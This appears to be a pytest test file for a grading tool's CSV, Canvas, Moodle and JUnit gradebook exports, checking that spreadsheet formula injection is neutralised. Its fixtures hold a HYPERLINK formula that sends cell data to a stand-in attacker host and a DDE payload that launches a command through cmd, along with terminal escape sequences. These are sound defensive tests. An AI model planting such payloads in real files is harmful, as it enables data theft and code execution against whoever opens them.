"""The gradebook as tables: what spreadsheets, Canvas, Moodle and JUnit readers make of it, with an evil roster."""

from __future__ import annotations

import csv
import dataclasses
import io
from xml.etree import ElementTree

import pytest

from grader.course import CourseError
from grader.faces import canvas, class_junit, gradebook_csv, moodle
from grader.faces.cells import harmless
from grader.gradebook import Column, Gradebook, Mark, Row

from .platforms import CanvasCourse, Student, moodle_import

COLUMNS = (
    Column("e02_order_a_dish", "e02", "Order a dish", "t01_first_calls", 4, True),
    Column("e17_follow_the_links", "e17", "Follow the links", "t04_many_pages", 6, True),
)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'


def marks(first: float, second: float) -> tuple[Mark, ...]:
    def mark(column: Column, earned: float) -> Mark:
        passed = earned == column.points
        return Mark(column.stem, "passed" if passed else "wrong result", earned, problem="" if passed else "Wrong <&>.")

    return mark(COLUMNS[0], first), mark(COLUMNS[1], second)


def row(learner: str, score: float = 20.0, **more: object) -> Row:
    return Row(learner, **{"score": score, "earned": score / 2, "marks": marks(4, score / 2 - 4), **more})  # type: ignore[arg-type]


JANE = row("jsmith", 17.5, name="Jane Smith", email="jane@uni.example", identifier="0012", section="A")
OTTO = row("otto", 20, name="Otto Öz", email="Otto@uni.example", identifier="0013", days_late=2, late_percent=20.0)
EVIL = row("=cmd|' /C calc'!A0", 8, name=FORMULA, email="evil@uni.example", identifier="0014", notes=("-2+3", "a;=1"))
NONE = Row("nina", name="Nina None", email="nina@uni.example", identifier="0015", state="nothing handed in")
BROKEN = Row("ben", name="Ben Broken", email="ben@uni.example", state="not graded", notes=("The zip is broken.",))


def book(*rows: Row, title: str = "Week 3", out_of: float = 20.0) -> Gradebook:
    return Gradebook(title, out_of, COLUMNS, rows)


def cells(content: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))


def assert_runs_nothing(content: bytes) -> None:
    """Whichever way a spreadsheet cuts the table, no cell is a formula, and no character is one that can't be seen."""
    text = content.decode("utf-8-sig")
    for delimiter in ",;":
        for line in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
            for cell in line:
                begins = cell.lstrip(' "')[:1]
                assert begins not in tuple("=@＝＋－＠\t\r") or not begins, cell
                assert begins not in ("+", "-") or cell.replace(".", "").lstrip("+-").isdigit(), cell
    assert not [character for character in text if character < " " and character not in "\r\n"]


# What is made harmless.


@pytest.mark.parametrize("text", ["=1+1", "+A1", "-A1", "@SUM(1)", "\t=1", "\r=1", " =1", "＝1+1", "\x1b[31m=1", "−A1"])
def test_a_formula_gets_an_apostrophe(text: str) -> None:
    assert harmless(text).startswith("'")
    assert harmless(harmless(text)) == harmless(text)


def test_a_formula_behind_another_separator_gets_one_too() -> None:
    assert harmless("Jane;=1+1, @x") == "Jane;'=1+1, '@x"


@pytest.mark.parametrize(
    "text", ["-3.5", "-3", "+7", "1,5", "0012", "Jane O'Neil-Smith", "jane+x@uni.example", "a=b", ""]
)
def test_numbers_and_plain_words_stay(text: str) -> None:
    assert harmless(text) == text


def test_what_cannot_be_seen_goes() -> None:
    assert harmless("\x1b]0;title\x07Jane\x1b[31m\nSmith") == "Jane Smith"
    assert "\x00" not in harmless("a\x00b")
    assert "\u202e" not in harmless("a\u202eb")


# The table for spreadsheets.


def test_the_gradebook_as_a_table() -> None:
    content = gradebook_csv.encode(book(JANE, OTTO, NONE))
    assert content.startswith(b"\xef\xbb\xbf")
    read = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert [line["learner"] for line in read] == ["jsmith", "otto", "nina"]
    jane, otto, nina = read
    assert (jane["score"], jane["out of"], jane["e02_order_a_dish"]) == ("17.50", "20.00", "4.00")
    assert jane["e17_follow_the_links"] == "4.75"
    assert (otto["name"], otto["days late"], otto["late percent"]) == ("Otto Öz", "2", "20.00")
    assert (nina["state"], nina["e02_order_a_dish"]) == ("nothing handed in", "")


def test_a_missing_exercise_is_an_empty_cell_unless_points_were_given_for_it() -> None:
    missing = Mark(COLUMNS[0].stem, "missing", 0.0), Mark(COLUMNS[1].stem, "missing", 2.0, 2.0, "told me")
    (line,) = csv.DictReader(io.StringIO(gradebook_csv.encode(book(row("a", marks=missing))).decode("utf-8-sig")))
    assert (line["e02_order_a_dish"], line["e17_follow_the_links"]) == ("", "2.00")


def test_points_below_nothing_stay_a_number() -> None:
    taken = row("a", marks=(Mark(COLUMNS[0].stem, "passed", -1.5, -5.5, "copied"),))
    (line,) = csv.DictReader(io.StringIO(gradebook_csv.encode(book(taken)).decode("utf-8-sig")))
    assert line["e02_order_a_dish"] == "-1.50"


def test_the_table_runs_nothing() -> None:
    content = gradebook_csv.encode(book(EVIL, JANE))
    assert_runs_nothing(content)
    assert cells(content)[1][0] == "'" + EVIL.learner
    assert cells(content)[1][-1] == "'-2+3 a;'=1"


# Canvas.

STUDENTS = [
    Student(101, "Jane Smith", "Smith, Jane", "jsmith", "0012"),
    Student(102, "Otto Öz", "Öz, Otto", "Otto@UNI.example"),
    Student(103, FORMULA, FORMULA, "evil@uni.example", "0014"),
    Student(104, "Nina None", "None, Nina", "nina"),
    Student(105, "Rita Rest", "Rest, Rita", "rita"),
]


def canvas_course() -> CanvasCourse:
    return CanvasCourse(STUDENTS, {7: "Week 2", 8: "Week 3"}, ("Notes",))


def export(
    *,
    delimiter: str = ",",
    assignments: tuple[str, ...] = ("Week 2 (7)", "Week 3 (8)"),
    mark: str = "",
    worth: str = "20.00",
) -> bytes:
    """A gradebook as Canvas exports it, with SIS ids, a column of notes, a line about hidden grades, and totals."""
    lines = [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Notes", *assignments, "Current Score"],
        ["", "", "", "", "", "", *["Manual Posting"] * len(assignments), ""],
        ["    Points Possible", "", "", "", "", "", *[worth] * len(assignments), "(read only)"],
    ]
    for one in STUDENTS:
        name = f'="{one.sortable_name}"' if one.sortable_name.startswith("=") else one.sortable_name
        lines.append(
            [name, str(one.number), one.sis, one.login, "A", "- often late", *["3.00"] * len(assignments), "9"]
        )
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\n").writerows(lines)
    return (mark + text.getvalue()).encode()


@pytest.mark.parametrize("delimiter", [",", ";"])
@pytest.mark.parametrize("mark", ["", "\ufeff"])
def test_canvas_gets_its_own_export_back_with_the_scores(delimiter: str, mark: str) -> None:
    given = export(delimiter=delimiter, mark=mark)
    content, sentences = canvas.encode(book(JANE, OTTO, EVIL), given)
    before, after = cells(given, delimiter), cells(content, delimiter)
    assert sentences == ()
    assert content.startswith(b"\xef\xbb\xbf") == bool(mark)
    assert after[:3] == before[:3], "header, hidden grades and points are as they were"
    assert [line[1] for line in after] == [line[1] for line in before], "the order, too"
    assert [line[5:7] + line[8:] for line in after] == [line[5:7] + line[8:] for line in before]
    course = canvas_course()
    course.read(content)
    assert course.strangers == course.new == []
    grades = [course.grades[number, "Week 3"] for number in (101, 102, 103, 104, 105)]
    assert grades == ["17.50", "20.00", "8.00", "3.00", "3.00"], "the last two as Canvas had them"
    assert_runs_nothing(content.replace(b"- often late", b""))  # which is the instructor's own


def test_canvas_gets_a_new_column_where_it_has_none() -> None:
    content, sentences = canvas.encode(book(JANE), export(assignments=("Week 2 (7)",)))
    assert sentences == ()
    course = canvas_course()
    course.assignments = {7: "Week 2"}
    course.read(content)
    assert course.new == ["Week 3"]
    assert course.points["Week 3"] == "20.00"
    assert course.grades[101, "Week 3"] == "17.50"
    assert course.grades[102, "Week 3"] == ""


def test_a_title_with_a_number_in_brackets_names_no_other_assignment() -> None:
    content, _ = canvas.encode(book(JANE, title="Again (7)"), export())
    course = canvas_course()
    course.read(content)
    assert course.grades[101, "Week 2"] == "3.00"
    assert course.grades[101, "Again [7]"] == "17.50"
    again, _ = canvas.encode(book(JANE, title="Again (7)"), export(assignments=("Again [7] (9)",)))
    assert cells(again)[0] == cells(export(assignments=("Again [7] (9)",)))[0], "the second time the column is there"


def test_first_and_last_names_in_columns_of_their_own() -> None:
    given = (
        b"LastName,FirstName,ID,SIS Login ID,Section,Week 3 (8)\n    Points Possible,,,,,20\n"
        b"Smith,Jane,101,x1,A,\n\xc3\x96z,Otto,102,x2,A,\n"
    )
    nameless = dataclasses.replace(JANE, learner="hub-jane", identifier="", email="")
    content, sentences = canvas.encode(book(nameless), given)
    assert sentences == ()
    course = canvas_course()
    course.read(content)
    assert course.grades[101, "Week 3"] == "17.50"


@pytest.mark.parametrize(
    "learner",
    [
        row("hub", 17.5, identifier="0012"),
        row("hub", 17.5, identifier="101"),
        row("hub", 17.5, email="JSMITH"),
        row("JSmith", 17.5),
        row("0012", 17.5),
        row("hub", 17.5, name="jane  smith"),
        row("hub", 17.5, name="Smith, Jane"),
    ],
)
def test_a_learner_is_found_by_any_of_their_names(learner: Row) -> None:
    content, sentences = canvas.encode(book(learner), export())
    assert sentences == ()
    course = canvas_course()
    course.read(content)
    assert course.grades[101, "Week 3"] == "17.50"


def test_whose_place_is_not_sure_gets_no_score() -> None:
    twice = b'Student,ID,SIS Login ID,Section,Week 3 (8)\n"Smith, Jane",1,a,A,\n"Smith, Jane",2,b,A,\n'
    content, sentences = canvas.encode(book(row("hub", name="Jane Smith")), twice)
    assert content == twice
    assert sentences == ("hub could not be matched: several learners in Canvas fit.",)
    content, sentences = canvas.encode(book(row("a", 8), row("b2", 9, identifier="1")), twice)
    assert content == twice
    assert len(sentences) == 2
    _, sentences = canvas.encode(book(row("stranger")), twice)
    assert sentences == ("stranger could not be matched: nobody in Canvas has that login, id or name.",)


def test_an_excuse_in_canvas_stays() -> None:
    given = export().replace(
        b'Smith, Jane",101,0012,jsmith,A,- often late,3.00,3.00', b'Smith, Jane",101,0012,jsmith,A,,3.00,EX'
    )
    content, sentences = canvas.encode(book(JANE), given)
    assert content.count(b"EX") == given.count(b"EX") == 1
    assert "“EX”" in sentences[0]


def test_who_handed_nothing_in_gets_no_zero_in_canvas() -> None:
    content, sentences = canvas.encode(book(NONE, dataclasses.replace(BROKEN, learner="rita")), export())
    assert content.count(b",3.00,3.00,9") == export().count(b",3.00,3.00,9")
    assert [sentence.split()[0] for sentence in sentences] == ["nina", "rita"]


def test_a_score_out_of_twenty_is_not_written_into_a_column_out_of_a_hundred() -> None:
    with pytest.raises(CourseError, match=r"worth 100\.00 points in Canvas and 20\.00 here"):
        canvas.encode(book(JANE), export(worth="100.00"))


@pytest.mark.parametrize(
    ("given", "words"),
    [
        (b"", "not a gradebook from Canvas"),
        (b"learner,score\na,1\n", "not a gradebook from Canvas"),
        (b"Student,ID,Section\n\xff\xfe", "not UTF-8"),
        (b'Student,ID,Section\n"a"b,1,A\n', "not a CSV file"),
        (export(assignments=("Week 3 (8)", "Week 3 (9)")), "several columns “Week 3”"),
    ],
)
def test_what_is_no_export_is_refused_with_a_word(given: bytes, words: str) -> None:
    with pytest.raises(CourseError, match=words):
        canvas.encode(book(JANE), given)


@pytest.mark.parametrize("given", [None, export()])
def test_a_title_that_canvas_would_leave_out_is_written_differently(given: bytes | None) -> None:
    content, sentences = canvas.encode(book(JANE, title="The Final Grades"), given)
    course = canvas_course()
    course.read(content)
    assert course.grades[101, "The Final-Grades"] == "17.50"
    assert sentences[-1].endswith("in the table for Canvas it is “The Final-Grades”.")


def test_without_an_export_canvas_still_reads_the_table() -> None:
    points = row("p", 3, name="Points Possible")
    content, sentences = canvas.encode(book(JANE, EVIL, NONE, points))
    assert_runs_nothing(content)
    course = canvas_course()
    course.assignments = {}
    course.students = [*STUDENTS, Student(106, "P", login="p")]
    course.read(content)
    assert course.points == {"Week 3": "20.00"}, "nobody's name changes what the assignment is worth"
    assert course.grades == {(101, "Week 3"): "17.50", (103, "Week 3"): "8.00", (106, "Week 3"): "3.00"}
    assert "ids of Canvas can't be known" in sentences[0]
    assert [sentence.split()[0] for sentence in sentences[1:]] == ["nina"]


# Moodle.


def test_moodle_takes_all_of_its_table() -> None:
    content, sentences = moodle.encode(book(JANE, OTTO, EVIL, NONE, BROKEN, row("stranger")))
    taken = moodle_import(content, {"jane@uni.example": 1, "Otto@uni.example": 2, "evil@uni.example": 3})
    assert {user: grade for user, (grade, _) in taken.items()} == {1: 17.5, 2: 20.0, 3: 8.0}
    assert taken[2][1] == "20.00 of 20.00 points, 2 of 2 exercises done. 2 days late: 20 percent less."
    assert [sentence.split()[0] for sentence in sentences] == ["nina", "ben", "stranger"]
    assert cells(content)[0] == ["email", "Week 3", "Week 3 feedback"]
    assert_runs_nothing(content)


def test_without_a_roster_moodle_goes_by_the_name_of_what_was_handed_in() -> None:
    content, sentences = moodle.encode(book(row("jsmith", 17.5), row("=evil")))
    assert moodle_import(content, {"jsmith": 1})[1][0] == 17.5
    assert cells(content)[0][0] == "username"
    assert "formula" in sentences[0]


def test_one_address_for_two_learners_is_nobodys() -> None:
    content, sentences = moodle.encode(book(JANE, dataclasses.replace(OTTO, email=JANE.email)))
    assert len(cells(content)) == 1
    assert len(sentences) == 2


def test_more_than_a_hundred_points_become_percent() -> None:
    content, sentences = moodle.encode(book(row("a", 150), out_of=300.0))
    assert moodle_import(content, {"a": 1})[1][0] == 50.0
    assert cells(content)[0][1] == "Week 3 (percent)"
    assert "percent" in sentences[0]


# JUnit.


def test_the_class_as_junit() -> None:
    odd = row(
        "evil\x1b[31m\x00<&>", 8, marks=(Mark("e02_order_a_dish", "not recorded", 0.0), Mark("e17", "missing", 0.0))
    )
    root = ElementTree.fromstring(class_junit.encode(book(JANE, odd, NONE, BROKEN)))
    suites = {suite.get("name"): suite for suite in root}
    assert list(suites) == ["jsmith", "evil\N{REPLACEMENT CHARACTER}<&>", "nina", "ben"]
    assert (root.get("tests"), root.get("failures"), root.get("errors")) == ("6", "3", "2")
    first, second = suites["jsmith"].findall("testcase")
    assert first.find("failure") is None
    assert (second.get("classname"), second.get("name")) == ("t04_many_pages", "e17_follow_the_links")
    failure = second.find("failure")
    assert failure is not None
    assert (failure.get("type"), failure.get("message")) == ("wrong result", "Wrong <&>.")
    points = {one.get("name"): one.get("value") for one in suites["jsmith"].findall("properties/property")}
    assert points == {"points": "20.00", "earned": "17.50"}
    assert (suites["ben"].findtext("testcase/error") or "") == "The zip is broken."
